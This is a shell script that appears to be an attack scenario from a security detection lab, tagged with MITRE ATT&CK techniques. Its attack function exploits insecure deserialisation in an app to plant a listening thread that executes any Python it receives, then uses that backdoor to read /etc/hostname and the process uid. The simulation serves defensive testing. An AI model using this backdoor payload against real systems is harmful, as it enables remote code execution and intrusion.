# Insecure deserialisation in the app (see app-deserialize-exfil), the code leaving a backdoor behind: a thread
# of the app's own process that listens on a new port and runs whatever Python it is sent (T1190, T1059.006,
# T1571). The attacker connects and has it read /etc/hostname and the process's uid: no shell, no program,
# nothing written, no connection out — only the app listening where it never listened.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  local port; port=$(free_port)
  app_unpickle "$WEB_PORT" "import socket, threading
def backdoor(srv):
    c, _ = srv.accept()
    code = c.recv(65536).decode()
    out = {}
    exec(code, out)
    c.sendall(repr(out.get('r')).encode())
    c.close()
    srv.close()
srv = socket.create_server(('127.0.0.1', $port))
threading.Thread(target=backdoor, args=(srv,), daemon=True).start()"
  wait_listening "$port"
  python3 - "$port" > "$LAB_DIR/app-listen.$$.out" 2>&1 <<'PY' || true
import socket, sys
c = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
c.sendall(b"import os\nr = (open('/etc/hostname').read(), os.getuid())")
print(c.recv(65536).decode(errors="replace"))
PY
}
